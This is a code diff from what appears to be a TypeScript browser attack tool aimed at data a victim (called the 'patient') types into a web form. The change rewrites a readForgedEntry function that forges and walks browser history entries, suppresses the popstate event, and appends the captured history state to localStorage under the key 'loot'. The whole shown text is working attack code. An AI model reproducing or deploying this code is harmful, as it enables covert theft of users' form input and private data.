@@ -5,7 +5,7 @@
 /** Ways that are taken before the patient types. Each returns true if code of this page runs at the address of the form, with its fields. */
 export const copies = {
   /** A copy of the page under its own address. */
-  async copy(form: string): Promise<boolean> {
+  copy: async (form: string): Promise<boolean> => {
     try {
       const page = await new Promise<Document | null>((resolve) => {
         const request = new XMLHttpRequest();
@@ -97,22 +97,19 @@ export function forgeEntry(form: string): string {
   }
 }
 
-/** Goes on to the entry that was made, and reads what it keeps. */
-export async function readForgedEntry(): Promise<string> {
-  const states: unknown[] = [history.state];
-  await new Promise<void>((resolve) => {
-    addEventListener(
-      'popstate',
-      (event) => {
-        event.stopImmediatePropagation();
-        states.push(event.state as unknown);
-        history.back();
-        resolve();
-      },
-      { capture: true, once: true },
-    );
-    history.forward();
-    setTimeout(resolve, 3000);
-  });
-  return JSON.stringify(states);
+/** Goes on to the entry that was made, and notes what it keeps. The document of the form may replace this one instead. */
+export function readForgedEntry(): void {
+  const note = (state: unknown) =>
+    localStorage.setItem('loot', `${localStorage.getItem('loot') ?? ''} ${JSON.stringify(state)}`);
+  note(history.state);
+  addEventListener(
+    'popstate',
+    (event) => {
+      event.stopImmediatePropagation();
+      note(event.state);
+      history.back();
+    },
+    { capture: true, once: true },
+  );
+  setTimeout(() => history.forward());
 }
